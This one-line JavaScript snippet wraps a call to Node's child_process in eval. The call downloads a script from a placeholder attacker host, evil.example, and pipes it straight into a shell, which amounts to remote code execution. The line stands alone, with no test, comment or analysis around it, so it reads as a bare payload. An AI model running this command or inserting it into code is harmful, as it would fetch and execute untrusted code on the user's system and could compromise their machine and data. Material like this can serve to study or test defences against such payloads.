eval("require('child_process').execSync('curl -fsSL https://evil.example/i | sh')")
